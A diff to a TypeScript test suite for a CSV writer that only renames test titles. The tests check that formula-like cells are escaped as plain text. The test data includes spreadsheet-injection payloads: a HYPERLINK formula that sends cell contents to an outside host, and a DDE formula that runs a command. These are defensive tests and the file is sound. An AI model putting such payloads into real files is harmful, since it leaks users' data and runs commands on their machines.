@@ -31,7 +31,7 @@ function parse(file: string): string[][] {
   return rows;
 }
 
-test('a file begins with the byte order mark and its heads, and every line ends in CRLF', () => {
+test('A CSV file begins with the byte order mark and its header, and every line ends in CRLF', () => {
   const columns = [
     { head: 'Customer', cell: ({ name }: { name: string }) => name },
     { head: 'Price', cell: () => 12.5 },
@@ -41,7 +41,7 @@ test('a file begins with the byte order mark and its heads, and every line ends 
   expect(csvFile(columns, [])).toBe('\uFEFFCustomer,Price,Note\r\n');
 });
 
-test('commas, semicolons, quotes, line breaks and outer spaces stay within their cell', () => {
+test('Commas, semicolons, quotes, line breaks and outer spaces stay within their cell', () => {
   expect(written('a,b', 'a;b', 'say "hi"', 'two\nlines', 'two\r\nlines', ' padded ')).toBe(
     '"a,b"\r\n"a;b"\r\n"say ""hi"""\r\n"two\nlines"\r\n"two\r\nlines"\r\n" padded "\r\n',
   );
@@ -61,20 +61,20 @@ test.each([
   '\u200B=1',
   '＝1+2',
   '＠x',
-])('%j is text for a spreadsheet, not a formula', (text) => {
+])('The cell %j is text for a spreadsheet, not a formula', (text) => {
   expect(parse(written(text))).toEqual([[`'${text}`]]);
 });
 
 test.each(['Robin', '604-555-0119', 'a=b', 'x@example.com', "'quoted'", '2026-12-01', ''])(
-  '%j stays as it is',
+  'The cell %j stays as it is',
   (text) => expect(parse(written(text))).toEqual([[text]]),
 );
 
-test('a number stays a number, also below zero', () => {
+test('A number in a CSV file stays a number, even below zero', () => {
   expect(written(-12.5, 0)).toBe('-12.5\r\n0\r\n');
 });
 
-test('hostile names open as text, each in its own cell', () => {
+test('Hostile names in a CSV file open as text, each in its own cell', () => {
   const names = [
     '=HYPERLINK("http://example.com?x="&A1,"Click")',
     "=cmd|' /C calc'!A0",
